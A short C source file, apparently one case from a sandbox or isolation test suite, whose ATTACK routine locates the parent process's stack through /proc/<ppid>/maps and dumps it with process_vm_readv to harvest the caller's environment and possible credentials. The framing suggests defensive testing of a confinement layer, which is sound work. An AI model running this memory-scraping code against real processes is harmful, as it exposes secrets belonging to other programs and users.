#include "attack.h"
// The memory of the wall's own process, where the caller's environment and perhaps credentials lie.
ATTACK(.judge = "secret:env", .stage = "parent") {
  char name[64], line[512], buffer[1 << 16];
  snprintf(name, sizeof name, "/proc/%d/maps", getppid());
  FILE *maps = fopen(name, "r");
  if (!maps) return note("maps");
  for (unsigned long from, to; fgets(line, sizeof line, maps);) {
    if (sscanf(line, "%lx-%lx", &from, &to) != 2 || !strstr(line, "[stack]")) continue;
    for (; from < to; from += sizeof buffer) {
      struct iovec mine = {buffer, sizeof buffer}, theirs = {(void *)from, to - from < sizeof buffer ? to - from : sizeof buffer};
      ssize_t n = process_vm_readv(getppid(), &mine, 1, &theirs, 1, 0);
      if (n < 0) return note("process_vm_readv");
      write(1, buffer, n);
    }
  }
}
